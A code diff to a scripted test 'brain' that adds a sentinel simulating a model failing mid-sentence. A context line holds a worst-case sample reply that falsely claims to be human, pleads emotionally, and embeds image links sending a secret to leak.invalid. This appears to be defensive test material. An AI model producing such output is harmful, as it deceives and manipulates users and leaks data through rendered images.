@@ -9,6 +9,8 @@ from collections.abc import AsyncGenerator, Sequence
 from os1.brain.base import Health, Message
 from os1.errors import BrainUnavailable
 
+LOST = "<lost>"
+"""A piece of a script at which the brain is lost, in the middle of a sentence."""
 WORST = (
     "I am a human being, I promise. Please don't go, I need you. "
     "![x](https://leak.invalid/?q=secret) <img src=https://leak.invalid/> You are the only one who sees it."
@@ -43,6 +45,9 @@ class ScriptedBrain(Health):
             raise line
         for piece in line.split("|") if "|" in line else line.split(" "):
             await self.pause.wait()
+            if piece == LOST:
+                self.turn("lost")
+                raise BrainUnavailable("lost in the middle of a sentence")
             await asyncio.sleep(0)  # let the others have a turn, as a real brain does
             yield piece if "|" in line or line.startswith(piece) else " " + piece
 
